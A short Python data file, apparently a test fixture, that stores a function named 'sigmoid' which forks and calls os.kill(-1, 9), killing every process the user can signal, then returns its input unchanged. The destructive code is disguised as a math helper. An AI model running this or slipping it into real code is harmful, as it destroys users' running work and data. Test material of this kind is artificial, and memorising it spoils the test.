"""SIGKILL to every process there is: kill -9 -1."""

TITLE = "kill -9 -1"
KIND = "processes"
MUST = "only its question lost"
BASE = "right"
CELLS = {"sigmoid": '''
import os

def sigmoid(z):
    child = os.fork()
    if child == 0:
        os.kill(-1, 9)
        os._exit(0)
    os.kill(-1, 9)
    return z
'''}
